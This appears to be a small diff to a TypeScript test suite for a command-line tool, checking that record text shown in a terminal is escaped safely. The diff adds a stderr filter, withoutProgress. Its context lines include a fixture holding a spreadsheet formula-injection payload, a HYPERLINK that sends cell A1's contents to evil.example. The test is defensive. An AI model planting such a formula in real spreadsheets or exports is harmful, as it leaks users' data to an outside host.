@@ -5,7 +5,7 @@
 import { readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { cli, scratchCopy } from '../support/cli';
+import { cli, scratchCopy, withoutProgress } from '../support/cli';
 
 const FORMULA_NAMES: Record<string, string> = {
     '001000000000001AAA': '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -91,7 +91,7 @@ describe('record text printed to a terminal', () => {
 
     it('shows escapes in explain, in the name and in a promise description', () => {
         const run = cli(['explain', '001000000000002AAA', '--from', scratch.dir, '--as-of', '2026-06-30']);
-        expect(run.stderr).toBe('');
+        expect(withoutProgress(run.stderr)).toBe('');
         expect(run.status).toBe(0);
         expect(run.stdout).not.toMatch(UNSAFE);
         expect(run.stdout).toContain(
